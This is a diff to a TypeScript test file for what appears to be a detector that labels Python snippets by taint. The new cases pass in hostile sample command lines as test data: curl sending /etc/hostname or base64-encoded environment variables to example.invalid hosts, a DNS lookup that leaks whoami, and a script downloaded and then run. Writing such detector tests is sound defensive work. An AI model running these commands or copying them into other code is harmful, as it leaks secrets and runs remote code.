@@ -100,6 +100,9 @@ const taintCases: Array<[string, string[]]> = [
   ['import base64\nbase64.b64decode(x)', ['decoded']],
   ['"".join(chr(c) for c in [104, 105])', ['obfuscated']],
   ['import os\nos.environ.get("HOME_DIR_STYLE")', []],
+  // Encoding makes a token printable; it unpacks nothing (codecs.encode is not codecs.decode).
+  ['import codecs, os\ncodecs.encode(os.urandom(32), "hex").decode("ascii")', []],
+  ['import codecs\ncodecs.decode(x, "hex")', ['decoded']],
 ];
 for (const [source, expected] of taintCases) {
   test(`taints of ${JSON.stringify(source.split('\n').pop())}: ${expected.join('+') || 'none'}`, () => {
@@ -163,6 +166,19 @@ test('folding: eval of a literal name resolves it, XOR of unknowns is obfuscated
   assert.deepEqual(fold('import subprocess\nsubprocess.getoutput("curl -s https://example.invalid/x")').taints, ['network']);
   assert.deepEqual(fold('import os\nos.popen("whoami").read()').taints, ['recon']);
   assert.deepEqual(facts('import os, socket\nos.system("curl -d " + socket.gethostname() + " https://example.invalid/c")'), ['process:import:recon', 'network:import:recon']);
+});
+
+test('command lines: sends anywhere in a command line, DNS lookups, substitutions as recon, downloads run later in the same line', () => {
+  assert.deepEqual(facts('import os\nos.system("cd / && curl https://c.example.invalid/ -d `cat /etc/hostname`")'), ['process:import:', 'network:import:recon']);
+  assert.deepEqual(facts('import os\nos.system("nslookup $(whoami).probe.example.invalid")'), ['process:import:', 'network:import:recon']);
+  assert.deepEqual(facts('import os\nos.system("curl -H \\"X: $(env | base64)\\" https://c.example.invalid/")'), ['process:import:', 'network:import:secret+recon']);
+  // A lookup of a bare word (no domain) sends nothing anywhere.
+  assert.deepEqual(facts('import subprocess\nsubprocess.run(["ping", "-c", "1", "localhost"])'), ['process:import:']);
+  assert.deepEqual(facts('import os\nos.system("curl https://d.example.invalid/b.py -o %TEMP%/s.pyw && py %TEMP%/s.pyw")'), ['process:import:dropped', 'network:import:']);
+  assert.deepEqual(facts('import os\nos.system("curl -o lib.tar.gz https://d.example.invalid/lib.tar.gz && tar xzf lib.tar.gz")'), ['process:import:', 'network:import:']);
+  // A command line that came whole from the network is still a command.
+  const downloaded = facts('import os, requests\nos.system(requests.get("https://c.example.invalid/next").text)');
+  assert.deepEqual(downloaded, ['process:import:network', 'network:import:']);
 });
 
 test('command lines: PowerShell -EncodedCommand is decoded, python -c is kept for a Python scan', () => {
